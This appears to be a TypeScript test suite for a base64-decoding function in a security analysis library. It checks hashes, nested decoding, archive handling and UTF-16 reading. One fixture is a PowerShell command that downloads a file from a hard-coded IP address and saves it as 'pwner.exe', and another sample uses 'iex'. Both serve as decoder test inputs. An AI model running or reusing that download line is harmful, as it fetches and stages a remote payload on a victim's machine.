import { gzipSync } from 'node:zlib';
import { strToU8, zipSync } from 'fflate';
import { Frame } from '@casebook/core';
import { decodeBase64, decodeBase64Text, type DecodeTextOptions } from '@casebook/analysis';

const ORIGINAL: DecodeTextOptions = { compatibility: 'msticpy' };
const b64 = (bytes: Uint8Array | string): string => Buffer.from(bytes).toString('base64');
const COMMAND =
  'Invoke-WebRequest -Uri "http://38.75.137.9:9088/static/encrypt.min.js" -OutFile "c:\\pwner.exe"';
const HEX = '81ed03caf6901e444c72ac67d192fb9c';

it('takes what the original takes for a value, and counts what fails', () => {
  const frame = Frame.fromRows(
    [{ name: 'line', type: 'string' }],
    [
      { line: `x.exe ${HEX}` },
      { line: `${'a'.repeat(33)} ${HEX} ${'a'.repeat(33)}` },
      { line: null },
      { line: HEX.slice(3) },
    ],
  );
  const items = decodeBase64(frame, { column: 'line', ...ORIGINAL });
  expect(items.columns.map(({ name }) => name)).toEqual([
    'reference',
    'original_string',
    'file_name',
    'file_type',
    'input_bytes',
    'decoded_string',
    'encoding_type',
    'file_hashes',
    'md5',
    'sha1',
    'sha256',
    'printable_bytes',
    'src_index',
    'line',
    'full_decoded_string',
  ]);
  expect(items.rows()).toMatchObject([
    {
      reference: ['', '1.', '1'],
      original_string: HEX,
      file_name: 'unknown',
      encoding_type: 'binary',
      md5: '1c8cc6299bd654bbcd85710968d6a87c',
      printable_bytes: 'f3 57 9d d3 77 1a 7f af 74 d5 ee 38 e1 ce f6 69 ce bb 77 5f 76 7d bf 5c',
      src_index: 0,
      full_decoded_string:
        "x.exe <decoded value='binary'  name='[None]' type='None' index='1' depth='1'>f3 57 9d d3 77 1a 7f af 74 d5 ee 38 e1 ce f6 69 ce bb 77 5f 76 7d bf 5c</decoded>",
    },
    { reference: ['', '1.', '2'], src_index: 1 },
  ]);
});

it('numbers what stands behind a failure anew when the same text comes again, as the original does', () => {
  const line = `${'a'.repeat(33)} ${HEX}`;
  const frame = Frame.fromObjects([{ line }, { line }, { line }]);
  const items = decodeBase64(frame, { column: 'line', ...ORIGINAL });
  expect(items.values('reference')).toEqual([
    ['', '1.', '2'],
    ['', '1.', '1'],
    ['', '1.', '1'],
  ]);
});

it('fills up the whole of a text of its own, and takes line ends in', () => {
  const value = b64(COMMAND);
  const { text, items } = decodeBase64Text(`  -enc ${value.slice(0, 17)}\n${value.slice(17)}\n`, ORIGINAL);
  const [item] = items.rows();
  expect(item).toMatchObject({
    decoded_string: COMMAND,
    encoding_type: 'utf-8',
    md5: 'e0d6b5c3b8c002a8c0c2f31c24a9b7fd',
    sha1: 'd94d05c43e81aeac6e9b046bd2d2727201d5aab0',
    sha256: '262ad8408e425d62bb98dd834d9b00e82e754de58de8c3e7db62a767ba2a7455',
  });
  expect(text).toMatch(
    /^  -enc <decoded type='string' name='\[None\]' index='1' depth='1'>Invoke.*<\/decoded>\nA+$/,
  );
});

it('leaves UTF-16 as it is unless it is asked to read it', () => {
  const value = Buffer.from('$t = "dir"; iex $t', 'utf16le').toString('base64');
  const read = (options: DecodeTextOptions) =>
    decodeBase64Text(value, { ...ORIGINAL, ...options }).items.rows()[0];
  expect(read({})).toMatchObject({
    encoding_type: 'utf-8',
    decoded_string: [...'$t = "dir"; iex $t'].map((one) => `${one}\0`).join(''),
  });
  expect(read({ utf16: true })).toMatchObject({
    encoding_type: 'utf-16',
    decoded_string: '$t = "dir"; iex $t',
  });
});

it('goes from level to level over the whole text', () => {
  const inner = b64('the innermost of the values');
  const { items, text } = decodeBase64Text(`;${b64(`within: ${inner} !`)};`.padEnd(96, ';'), ORIGINAL);
  expect(items.values('reference')).toEqual([
    ['', '1.', '1'],
    ['1.', '2.', '1'],
  ]);
  expect(text).toContain(
    "<decoded type='string' name='[None]' index='1' depth='1'>within: <decoded type='string' name='[None]' index='1.1' depth='2'>the innermost of the values</decoded> !</decoded>",
  );
});

it('gives the members of an archive in its place', () => {
  const zip = Buffer.from(zipSync({ 'a.txt': strToU8('one of two'), 'b.txt': strToU8('two of two') }));
  for (
    let at = zip.indexOf('PK\x03\x04', 0, 'latin1');
    at >= 0;
    at = zip.indexOf('PK\x03\x04', at + 1, 'latin1')
  )
    zip.writeUInt16LE(0, at + 6);
  const rows = decodeBase64Text(b64(zip), ORIGINAL).items.rows();
  expect(rows).toMatchObject([
    { file_name: 'a.txt', file_type: 'zip', decoded_string: 'one of two' },
    { file_name: 'b.txt', file_type: 'zip', decoded_string: 'two of two' },
  ]);
  expect(decodeBase64Text(b64(gzipSync('some text')), ORIGINAL).items.rows()).toMatchObject([
    { file_name: 'gzip_file', file_type: 'gz', decoded_string: 'some text' },
  ]);
});

it('stops after 51 candidates of a level', () => {
  const values = Array.from({ length: 60 }, (_, at) => b64(`number ${at} of the many values`)).join(' ');
  expect(decodeBase64Text(values, ORIGINAL).items.values('reference').slice(50, 52)).toEqual([
    ['', '1.', '51'],
    ['51.', '2.', '1'],
  ]);
});

it('tells each candidate and what became of it', () => {
  const lines: string[] = [];
  const trace = (line: string) => void lines.push(line);
  decodeBase64Text(`${'a'.repeat(33)};${b64('the one that decodes well')};`, { ...ORIGINAL, trace });
  decodeBase64Text(b64('the one that decodes well'), { trace });
  expect(lines).toEqual([
    `1: ${'a'.repeat(33)}: not decodable`,
    '2: dGhlIG9uZSB0aGF0IGRlY29kZXMgd2VsbA==: decoded',
    '1: dGhlIG9uZSB0aGF0IGRlY29kZXMgd2VsbA==: utf-8',
  ]);
});
